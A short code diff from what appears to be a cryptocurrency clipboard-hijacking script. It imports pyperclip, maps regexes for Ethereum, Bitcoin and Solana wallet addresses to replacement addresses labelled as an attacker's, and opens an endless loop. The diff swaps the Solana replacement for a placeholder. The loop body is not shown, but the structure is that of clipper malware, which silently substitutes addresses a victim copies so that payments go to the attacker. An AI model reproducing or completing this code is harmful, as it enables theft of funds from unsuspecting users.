@@ -4,7 +4,7 @@ import pyperclip
 ADDR = {
     re.compile(r'^0x[a-fA-F0-9]{40}$'): '0x8bA1c1E3f0a9e2D4C6b5A7f8E9d0C1b2A3f4E5d6',
     re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$'): 'bc1qexampleattackeraddr0000000000000000000',
-    re.compile(r'^[1-9A-HJ-NP-Za-km-z]{32,44}$'): '7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU',
+    re.compile(r'^[1-9A-HJ-NP-Za-km-z]{32,44}$'): 'ExampLeSo1anaAttackerAddr1111111111111111111',
 }
 last = ''
 while True:
